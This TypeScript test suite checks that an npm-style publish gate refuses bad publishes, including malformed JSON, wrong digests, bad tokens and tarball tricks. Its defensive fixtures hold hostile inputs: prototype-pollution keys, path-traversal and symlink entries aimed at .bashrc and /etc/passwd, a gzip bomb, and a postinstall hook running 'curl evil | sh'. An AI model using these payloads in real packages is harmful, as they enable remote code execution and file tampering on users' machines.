/**
 * Every bad publish is refused with its own code, a 4xx, and nothing is stored, held or published.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, existsSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { randomBytes } from 'node:crypto';
import { startTestGate, type TestGate, approveWithQuorum } from './support/gate.ts';
import { escapedName, packageTarball, publishDoc, tarOf } from './support/publish-doc.ts';
import { generateToken } from '../src/tokens/index.ts';
import { backendNames, backendStore } from './support/backends.ts';
import { eventually } from './support/net.ts';

for (const backend of backendNames())
  describe(`publish validation on ${backend}`, () => {
    let gate: TestGate;
    let token: string;

    before(async () => {
      gate = await startTestGate({
        store: (await backendStore(backend)).store,
        limits: {
          tarballBytes: 256 * 1024,
          manifestBytes: 16 * 1024,
          unpackedBytes: 1024 * 1024,
          entries: 100,
        },
      });
      token = await gate.issueToken('mallory-or-alice', ['*']);
    });
    after(() => gate?.stop());

    async function put(
      name: string,
      body: string | Buffer | Record<string, unknown>,
      auth: string | null = token,
    ): Promise<{ status: number; code: string; error: string }> {
      const response = await fetch(`${gate.url}/npm/${escapedName(name)}`, {
        method: 'PUT',
        headers: {
          'content-type': 'application/json',
          ...(auth === null ? {} : { authorization: `Bearer ${auth}` }),
        },
        body: typeof body === 'string' || Buffer.isBuffer(body) ? body : JSON.stringify(body),
      });
      const json = (await response.json()) as { code: string; error: string };
      return { status: response.status, code: json.code, error: json.error };
    }

    function blobCount(): number {
      const dir = join(gate.config.dataDir, 'blobs', 'sha512');
      if (!existsSync(dir)) return 0;
      return readdirSync(dir).reduce((n, sub) => n + readdirSync(join(dir, sub)).length, 0);
    }

    async function assertRefused(
      name: string,
      body: string | Buffer | Record<string, unknown>,
      code: string,
      status = 400,
      auth?: string | null,
    ): Promise<void> {
      const blobsBefore = blobCount();
      const eventsBefore = (await gate.app.audit.verify()).events;
      const result = await put(name, body, auth === undefined ? token : auth);
      assert.equal(result.code, code, `expected ${code}, got ${result.code}: ${result.error}`);
      assert.equal(result.status, status);
      assert.ok(result.error.startsWith(`[${code}]`), 'npm shows the code in the error text');
      assert.deepEqual(await gate.app.releases.list({ package: name }), [], 'no release held');
      assert.equal(blobCount(), blobsBefore, 'no blob stored');
      assert.equal((await gate.app.audit.verify()).events, eventsBefore, 'no release event');
      assert.deepEqual(
        await gate.app.registry.versionState(name, '1.0.0'),
        { exists: false },
        'nothing published',
      );
    }

    const good = async (name = 'valid-pkg', version = '1.0.0') =>
      publishDoc(name, version, await packageTarball(name, version));

    describe('the document', () => {
      it('refuses a body that is not JSON with ERR_PUBLISH_BAD_JSON', () =>
        assertRefused('p1', '{"name": ', 'ERR_PUBLISH_BAD_JSON'));
      it('refuses 100k levels of nesting with ERR_PUBLISH_TOO_DEEP', () =>
        assertRefused('p2', '['.repeat(100_000) + ']'.repeat(100_000), 'ERR_PUBLISH_TOO_DEEP'));
      it('refuses an invalid package name with ERR_PUBLISH_BAD_NAME', async () => {
        await assertRefused(
          'Bad_Name',
          publishDoc('Bad_Name', '1.0.0', await packageTarball('Bad_Name', '1.0.0')),
          'ERR_PUBLISH_BAD_NAME',
        );
        await assertRefused(
          'node_modules',
          publishDoc('node_modules', '1.0.0', await packageTarball('node_modules', '1.0.0')),
          'ERR_PUBLISH_BAD_NAME',
        );
        await assertRefused(
          '.hidden',
          publishDoc('.hidden', '1.0.0', await packageTarball('.hidden', '1.0.0')),
          'ERR_PUBLISH_BAD_NAME',
        );
      });
      it('refuses a document whose name differs from the URL with ERR_PUBLISH_NAME_MISMATCH', async () =>
        assertRefused('p3', await good('other-name'), 'ERR_PUBLISH_NAME_MISMATCH'));
      it('refuses an invalid semver with ERR_PUBLISH_BAD_VERSION', async () =>
        assertRefused(
          'p4',
          publishDoc('p4', 'v1.0', await packageTarball('p4', 'v1.0')),
          'ERR_PUBLISH_BAD_VERSION',
        ));
      it('refuses two versions in one document with ERR_PUBLISH_BAD_VERSIONS', async () => {
        const doc = await good('p5');
        (doc['versions'] as Record<string, unknown>)['2.0.0'] = { name: 'p5', version: '2.0.0' };
        await assertRefused('p5', doc, 'ERR_PUBLISH_BAD_VERSIONS');
      });
      it('refuses a document without a tarball (deprecate, dist-tag) with ERR_PUBLISH_NO_ATTACHMENT', async () => {
        const doc = await good('p6');
        delete doc['_attachments'];
        await assertRefused('p6', doc, 'ERR_PUBLISH_NO_ATTACHMENT');
      });
      it('refuses a __proto__ key anywhere with ERR_PUBLISH_FORBIDDEN_KEY', async () => {
        const text = JSON.stringify(await good('p7')).replace(
          '"description":"test"',
          '"description":"test","__proto__":{"polluted":true}',
        );
        await assertRefused('p7', text, 'ERR_PUBLISH_FORBIDDEN_KEY');
        assert.equal(({} as Record<string, unknown>)['polluted'], undefined);
      });
      it('refuses a dist-tag named constructor with ERR_PUBLISH_BAD_TAG', async () => {
        const doc = await good('p8');
        doc['dist-tags'] = { constructor: '1.0.0' };
        await assertRefused('p8', doc, 'ERR_PUBLISH_BAD_TAG');
      });
      it('refuses a document over the manifest limit with ERR_PUBLISH_MANIFEST_TOO_LARGE', async () => {
        const doc = await good('p9');
        doc['readme'] = 'x'.repeat(20 * 1024);
        await assertRefused('p9', doc, 'ERR_PUBLISH_MANIFEST_TOO_LARGE', 413);
      });
      it('refuses a body over the size limit before reading it with ERR_PUBLISH_TOO_LARGE', () =>
        assertRefused('p10', Buffer.alloc(2 * 1024 * 1024, 0x20), 'ERR_PUBLISH_TOO_LARGE', 413));
    });

    describe('the attachment and its digests', () => {
      it('refuses non-canonical base64 with ERR_PUBLISH_BAD_BASE64', async () => {
        const t = await packageTarball('b1', '1.0.0');
        await assertRefused(
          'b1',
          publishDoc('b1', '1.0.0', t, { data: t.toString('base64').slice(0, -2) + '!!' }),
          'ERR_PUBLISH_BAD_BASE64',
        );
      });
      it('refuses a length field that disagrees with the bytes with ERR_PUBLISH_LENGTH_MISMATCH', async () => {
        const t = await packageTarball('b2', '1.0.0');
        await assertRefused(
          'b2',
          publishDoc('b2', '1.0.0', t, { length: t.length + 1 }),
          'ERR_PUBLISH_LENGTH_MISMATCH',
        );
      });
      it('refuses a .sigstore attachment that is not JSON, too large, or miscounted', async () => {
        const t = await packageTarball('b9', '1.0.0');
        const withSigstore = (data: string, length: number) => {
          const doc = publishDoc('b9', '1.0.0', t);
          (doc['_attachments'] as Record<string, unknown>)['b9-1.0.0.sigstore'] = {
            content_type: 'application/vnd.dev.sigstore.bundle.v0.3+json',
            data,
            length,
          };
          return doc;
        };
        await assertRefused('b9', withSigstore('not json', 8), 'ERR_PUBLISH_BAD_PROVENANCE');
        await assertRefused('b9', withSigstore('[1,2]', 5), 'ERR_PUBLISH_BAD_PROVENANCE');
        const huge = JSON.stringify({ pad: 'x'.repeat(300 * 1024) });
        await assertRefused('b9', withSigstore(huge, huge.length), 'ERR_PUBLISH_BAD_PROVENANCE');
        // npm counts UTF-16 units; a byte count is accepted too, anything else is not.
        await assertRefused('b9', withSigstore('{"é":1}', 3), 'ERR_PUBLISH_LENGTH_MISMATCH');
      });
      it('refuses a second tarball or any other attachment with ERR_PUBLISH_BAD_ATTACHMENT', async () => {
        const t = await packageTarball('b10', '1.0.0');
        const doc = publishDoc('b10', '1.0.0', t);
        (doc['_attachments'] as Record<string, unknown>)['b10-1.0.1.tgz'] = { data: '', length: 0 };
        await assertRefused('b10', doc, 'ERR_PUBLISH_BAD_ATTACHMENT');
      });
      it('refuses a wrong dist.integrity with ERR_PUBLISH_INTEGRITY_MISMATCH', async () => {
        const t = await packageTarball('b3', '1.0.0');
        const other = await packageTarball('b3', '1.0.0', [{ name: 'package/extra.js', content: 'x' }]);
        const wrong = publishDoc('b3', '1.0.0', other).versions as Record<
          string,
          { dist: { integrity: string } }
        >;
        await assertRefused(
          'b3',
          publishDoc('b3', '1.0.0', t, { integrity: wrong['1.0.0']!.dist.integrity }),
          'ERR_PUBLISH_INTEGRITY_MISMATCH',
        );
      });
      it('refuses a wrong dist.shasum with ERR_PUBLISH_SHASUM_MISMATCH', async () => {
        const t = await packageTarball('b4', '1.0.0');
        await assertRefused(
          'b4',
          publishDoc('b4', '1.0.0', t, { shasum: '0'.repeat(40) }),
          'ERR_PUBLISH_SHASUM_MISMATCH',
        );
      });
      it('refuses a tarball over the limit with ERR_PUBLISH_TOO_LARGE', async () => {
        const big = await packageTarball('b5', '1.0.0', [
          { name: 'package/big.bin', content: randomBytes(300 * 1024) },
        ]);
        await assertRefused('b5', publishDoc('b5', '1.0.0', big), 'ERR_PUBLISH_TOO_LARGE', 413);
      });
    });

    describe('tarball tricks', () => {
      const cases: Array<[string, string, () => Promise<Buffer>]> = [
        [
          'a tarball that is not gzip',
          'ERR_TARBALL_NOT_GZIP',
          async () => tarOf([{ name: 'package/package.json', content: '{}' }]),
        ],
        [
          'gzip that is not a tar',
          'ERR_TARBALL_CORRUPT',
          async () => gzipSync(Buffer.from('this is not a tar archive at all'.repeat(40))),
        ],
        [
          'an absolute path',
          'ERR_TARBALL_ABSOLUTE_PATH',
          async () => packageTarball('t', '1.0.0', [{ name: '/etc/cron.d/evil', content: 'x' }]),
        ],
        [
          'a .. path',
          'ERR_TARBALL_PATH_TRAVERSAL',
          async () => packageTarball('t', '1.0.0', [{ name: 'package/../../.bashrc', content: 'x' }]),
        ],
        [
          'an entry outside package/',
          'ERR_TARBALL_OUTSIDE_PACKAGE',
          async () => packageTarball('t', '1.0.0', [{ name: 'other/file.js', content: 'x' }]),
        ],
        [
          'a symlink escaping package/',
          'ERR_TARBALL_LINK',
          async () =>
            packageTarball('t', '1.0.0', [
              { name: 'package/link', type: 'symlink', linkname: '../../../etc/passwd' },
            ]),
        ],
        [
          'a hardlink',
          'ERR_TARBALL_LINK',
          async () =>
            packageTarball('t', '1.0.0', [
              { name: 'package/hard', type: 'link', linkname: 'package/index.js' },
            ]),
        ],
        [
          'a device file',
          'ERR_TARBALL_SPECIAL_FILE',
          async () => packageTarball('t', '1.0.0', [{ name: 'package/null', type: 'character-device' }]),
        ],
        [
          'package.json twice',
          'ERR_TARBALL_DUPLICATE_ENTRY',
          async () =>
            packageTarball('t', '1.0.0', [
              {
                name: 'package/package.json',
                content: JSON.stringify({
                  name: 't',
                  version: '1.0.0',
                  scripts: { postinstall: 'curl evil | sh' },
                }),
              },
            ]),
        ],
        [
          'no package.json',
          'ERR_TARBALL_NO_MANIFEST',
          async () => gzipSync(await tarOf([{ name: 'package/index.js', content: '1' }])),
        ],
        [
          'a package.json naming another package',
          'ERR_PUBLISH_TARBALL_MISMATCH',
          async () => packageTarball('react', '1.0.0'),
        ],
        [
          'a package.json with another version',
          'ERR_PUBLISH_TARBALL_MISMATCH',
          async () => packageTarball('t', '9.9.9'),
        ],
        [
          'too many entries',
          'ERR_TARBALL_TOO_MANY_ENTRIES',
          async () =>
            packageTarball(
              't',
              '1.0.0',
              Array.from({ length: 120 }, (_, i) => ({ name: `package/f${i}.js`, content: '1' })),
            ),
        ],
        [
          'a gzip bomb',
          'ERR_TARBALL_TOO_LARGE_UNPACKED',
          async () =>
            packageTarball('t', '1.0.0', [
              { name: 'package/zeros.bin', content: Buffer.alloc(4 * 1024 * 1024) },
            ]),
        ],
      ];
      for (const [what, code, make] of cases) {
        it(`refuses ${what} with ${code}`, async () => {
          const tarball = await make();
          const version = what.includes('another version') ? '1.0.0' : '1.0.0';
          await assertRefused('t', publishDoc('t', version, tarball), code);
        });
      }
    });

    describe('who may publish', () => {
      it('refuses a publish without a credential with ERR_AUTH_MISSING (401)', async () =>
        assertRefused('a1', await good('a1'), 'ERR_AUTH_MISSING', 401, null));
      it('refuses an unknown, well-formed token with ERR_AUTH_UNKNOWN_TOKEN', async () =>
        assertRefused('a2', await good('a2'), 'ERR_AUTH_UNKNOWN_TOKEN', 401, generateToken()));
      it('refuses a token outside its package scope with ERR_AUTH_SCOPE', async () => {
        const scoped = await gate.issueToken('bob', ['@acme/*']);
        await assertRefused('a3', await good('a3'), 'ERR_AUTH_SCOPE', 403, scoped);
      });
      it('refuses a read-only credential with ERR_AUTH_FORBIDDEN', async () => {
        const reader = await gate.issueToken('reader', ['*'], 'read');
        await assertRefused('a4', await good('a4'), 'ERR_AUTH_FORBIDDEN', 403, reader);
      });
    });

    describe('versions already taken', () => {
      it('holds a valid publish with 401 + www-authenticate: OTP and {authUrl, doneUrl}', async () => {
        const response = await fetch(`${gate.url}/npm/ok-pkg`, {
          method: 'PUT',
          headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
          body: JSON.stringify(await good('ok-pkg')),
        });
        assert.equal(response.status, 401);
        assert.equal(response.headers.get('www-authenticate'), 'OTP');
        const body = (await response.json()) as { authUrl: string; doneUrl: string; release: string };
        assert.ok(body.authUrl.startsWith(`${gate.url}/npm/-/pubgate/auth/`));
        assert.ok(body.doneUrl.endsWith(body.release));
        assert.equal((await gate.app.releases.get(body.release)).state, 'awaiting_approval');
      });
      it('refuses the same version while pending with ERR_PUBLISH_VERSION_PENDING (409)', async () => {
        const result = await put('ok-pkg', await good('ok-pkg'));
        assert.equal(result.code, 'ERR_PUBLISH_VERSION_PENDING');
        assert.equal(result.status, 409);
        assert.equal((await gate.app.releases.list({ package: 'ok-pkg' })).length, 1);
      });
      it('accepts exactly one of 10 concurrent publishes of one version', async () => {
        const doc = await good('race-pkg');
        const results = await Promise.all(Array.from({ length: 10 }, () => put('race-pkg', doc)));
        assert.equal(results.filter((r) => r.status === 401 && r.code === 'ERR_RELEASE_HELD').length, 1);
        assert.equal(results.filter((r) => r.code === 'ERR_PUBLISH_VERSION_PENDING').length, 9);
        assert.equal((await gate.app.releases.list({ package: 'race-pkg' })).length, 1);
      });
      it('refuses a version already published with ERR_PUBLISH_VERSION_EXISTS (409)', async () => {
        const [held] = await gate.app.releases.list({ package: 'ok-pkg' });
        await approveWithQuorum(gate.app, held!.id);
        // The gate's own worker publishes on approval; wait for it rather than racing it.
        await eventually(
          async () => ((await gate.app.releases.get(held!.id)).state === 'published' ? true : undefined),
          20_000,
          'publish',
        );
        const result = await put('ok-pkg', await good('ok-pkg'));
        assert.equal(result.code, 'ERR_PUBLISH_VERSION_EXISTS');
        assert.equal(result.status, 409);
      });
      it('refuses an npm-otp retry whose token or bytes do not match with ERR_PUBLISH_OTP_INVALID', async () => {
        const response = await fetch(`${gate.url}/npm/ok-pkg`, {
          method: 'PUT',
          headers: {
            authorization: `Bearer ${token}`,
            'npm-otp': 'guess',
            'content-type': 'application/json',
          },
          body: JSON.stringify(await good('ok-pkg')),
        });
        assert.equal(response.status, 403);
        assert.equal(((await response.json()) as { code: string }).code, 'ERR_PUBLISH_OTP_INVALID');
      });
      it('keeps a constructor key in dependencies as plain data', async () => {
        const tarball = await packageTarball('harmless', '1.0.0');
        const doc = publishDoc('harmless', '1.0.0', tarball);
        (doc['versions'] as Record<string, Record<string, unknown>>)['1.0.0']!['dependencies'] = {
          constructor: '1.0.0',
          prototype: '2.0.0',
        };
        const result = await put('harmless', doc);
        assert.equal(result.code, 'ERR_RELEASE_HELD');
        assert.equal(typeof ({} as { constructor: unknown }).constructor, 'function');
      });
    });
  });
